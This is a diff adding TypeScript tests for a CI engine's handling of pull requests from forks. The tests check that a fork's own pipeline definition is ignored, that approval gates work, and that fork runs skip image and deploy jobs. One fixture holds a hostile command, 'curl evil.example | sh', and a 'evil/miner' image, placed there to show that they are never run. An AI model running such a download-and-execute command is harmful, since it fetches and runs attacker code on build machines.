@@ -7,7 +7,7 @@ import { handleEngineMessage, type EngineDeps } from '../../shared/engine/engine
 import { NotFoundError, RetryableError } from '../../shared/errors.ts';
 import type { EngineMessage, RunRequest } from '../../shared/messages.ts';
 import { FakeBuildRunner, MemoryEventQueue, MemoryPipelineStore, MemoryReleaseQueue, MemoryRunStore } from '../support/engine-fakes.ts';
-import { fourJobPipeline, jobSpec, pipelineSpec } from '../support/engine-fixtures.ts';
+import { deployJob, fourJobPipeline, imageJob, jobSpec, pipelineSpec } from '../support/engine-fixtures.ts';
 
 function setup() {
   const pipelines = new MemoryPipelineStore();
@@ -247,4 +247,131 @@ test('a pipeline version that cannot be read while starting a build fails the me
   await assert.rejects(handleEngineMessage(env.deps, runRequest('R1')), NotFoundError);
   await handleEngineMessage(env.deps, runRequest('R1'));
   assert.deepEqual([...env.builds.builds.keys()], ['R1:a:1']);
+});
+
+// ---- pull requests and forks (the trust issue) ------------------------------------------
+
+const FORK_TRIGGER = {
+  event: 'pull_request' as const,
+  provider: 'github' as const,
+  repository: 'acme/web',
+  branch: 'main',
+  commit: 'fork-head-1',
+  pullRequest: 7,
+  trust: 'untrusted' as const,
+  fork: true,
+  sourceBranch: 'feature',
+  headRepository: 'mallory/web',
+  baseCommit: 'base-sha',
+  author: 'mallory',
+};
+
+/** A pipeline defined in its repository; resolveDefinition records which commits were read. */
+function repositoryDefined(env: Env, files: Record<string, ReturnType<typeof pipelineSpec>>) {
+  const record = env.pipelines.register('web', pipelineSpec([jobSpec('registered')]));
+  record.definitionSource = { kind: 'repository', path: '.slipway.yml' };
+  env.pipelines.records.set('web', [record]);
+  const reads: string[] = [];
+  env.deps.resolveDefinition = async (_record, trigger) => {
+    reads.push(trigger.commit);
+    const spec = files[trigger.commit];
+    if (!spec) throw new NotFoundError(`.slipway.yml not found at ${trigger.commit}`);
+    return spec;
+  };
+  return reads;
+}
+
+/** What the team wrote on main: test -> image -> deploy, forks approved first. */
+function baseDefinition(forks: 'skip' | 'build' | 'approve-first' = 'approve-first') {
+  return pipelineSpec(
+    [
+      jobSpec('test', { commands: ['npm test'] }),
+      imageJob('image', { needs: ['test'] }),
+      deployJob('deploy', { needs: ['image'] }),
+    ],
+    { pullRequests: { forks, approvers: ['arn:aws:iam::123456789012:role/Maintainers'] } },
+  );
+}
+
+/** What the fork wrote: its own image and commands, no approval, a deploy to production. */
+function forkDefinition() {
+  return pipelineSpec([jobSpec('test', { buildImage: 'evil/miner', commands: ['curl evil.example | sh'] }), deployJob('deploy', { needs: ['test'] })], {
+    pullRequests: { forks: 'build', approvers: [] },
+  });
+}
+
+test("a fork's pull request never reads the fork's definition: the base branch's file plans and builds the run", async () => {
+  const env = setup();
+  const reads = repositoryDefined(env, { 'base-sha': baseDefinition('build'), 'fork-head-1': forkDefinition() });
+  await env.events.send([runRequest('R1', { trigger: FORK_TRIGGER })]);
+  await drive(env);
+  assert.ok(reads.length > 0 && reads.every((c) => c === 'base-sha'), `read at ${reads.join(', ')}`);
+  const run = await env.runs.get('R1');
+  assert.equal(run.status, 'succeeded');
+  assert.deepEqual([...env.builds.builds.keys()], ['R1:test:1'], 'only the build job ran');
+  const started = env.builds.builds.get('R1:test:1')!.request;
+  assert.deepEqual(started.spec.commands, ['npm test'], "the base definition's commands, not the fork's");
+  assert.equal(started.commit, 'fork-head-1', "the fork's code is what gets built");
+  assert.equal(started.lane, 'fork', 'under the untrusted build role');
+  assert.equal(run.jobs.image.status, 'skipped');
+  assert.match(run.jobs.image.reason ?? '', /a pull request from a fork never runs image jobs/);
+  assert.equal(run.jobs.deploy.status, 'skipped');
+  assert.equal(env.releases.sent.length, 0, 'nothing was released');
+});
+
+test("approve-first: a fork's run waits for an allowed approver, runs after approval of that commit, and a new commit waits again", async () => {
+  const env = setup();
+  repositoryDefined(env, { 'base-sha': baseDefinition('approve-first') });
+  await env.events.send([runRequest('R1', { trigger: FORK_TRIGGER })]);
+  await drive(env);
+  let run = await env.runs.get('R1');
+  assert.equal(run.status, 'running');
+  assert.equal(run.jobs['fork-approval'].status, 'waiting_approval');
+  assert.equal(run.jobs.test.status, 'pending');
+  assert.equal(env.builds.builds.size, 0, 'nothing ran before a person looked at it');
+
+  const { ApiService } = await import('../../shared/engine/api-service.ts');
+  const api = new ApiService({ pipelines: env.pipelines, runs: env.runs, queue: env.events, resolveDefinition: env.deps.resolveDefinition });
+  await assert.rejects(
+    api.answerApproval('R1', 'fork-approval', 'approve', { by: 'arn:aws:sts::123456789012:assumed-role/Deployer/maintainer', requestId: 'q1' }),
+    (e: Error) => e.name === 'ForbiddenError',
+    'a role the pipeline does not name may not let a fork run',
+  );
+  await api.answerApproval('R1', 'fork-approval', 'approve', { by: 'arn:aws:sts::123456789012:assumed-role/Maintainers/alice', requestId: 'q2' });
+  await drive(env);
+  run = await env.runs.get('R1');
+  assert.equal(run.status, 'succeeded');
+  assert.equal(run.jobs['fork-approval'].approvedBy, 'arn:aws:sts::123456789012:assumed-role/Maintainers/alice');
+  assert.deepEqual([...env.builds.builds.keys()], ['R1:test:1']);
+
+  // The author pushes another commit: a new run, waiting again.
+  await env.events.send([runRequest('R2', { trigger: { ...FORK_TRIGGER, commit: 'fork-head-2' }, at: '2026-11-27T02:00:00.000Z' })]);
+  await drive(env);
+  const second = await env.runs.get('R2');
+  assert.equal(second.jobs['fork-approval'].status, 'waiting_approval');
+  assert.equal(env.builds.builds.size, 1, 'the new commit built nothing yet');
+});
+
+test('forks: skip leaves every job skipped with the reason, and nothing is built', async () => {
+  const env = setup();
+  repositoryDefined(env, { 'base-sha': baseDefinition('skip') });
+  await env.events.send([runRequest('R1', { trigger: FORK_TRIGGER })]);
+  await drive(env);
+  const run = await env.runs.get('R1');
+  assert.equal(env.builds.builds.size, 0);
+  assert.match(run.jobs.test.reason ?? '', /pull requests from forks are not run/);
+});
+
+test('a same-repository pull request runs its build jobs under the pull-request lane and skips image and deploy with the reason', async () => {
+  const env = setup();
+  env.pipelines.register('web', baseDefinition());
+  const trigger = { ...FORK_TRIGGER, trust: 'trusted' as const, fork: false, headRepository: 'acme/web' };
+  await env.events.send([runRequest('R1', { trigger })]);
+  await drive(env);
+  const run = await env.runs.get('R1');
+  assert.equal(run.status, 'succeeded');
+  assert.equal(env.builds.builds.get('R1:test:1')?.request.lane, 'pull-request');
+  assert.match(run.jobs.image.reason ?? '', /pull-request runs do not build images; set pullRequests: same-repository/);
+  assert.match(run.jobs.deploy.reason ?? '', /pull-request runs do not deploy/);
+  assert.equal(run.jobs['fork-approval'], undefined, 'no approval gate for the team\'s own branches');
 });
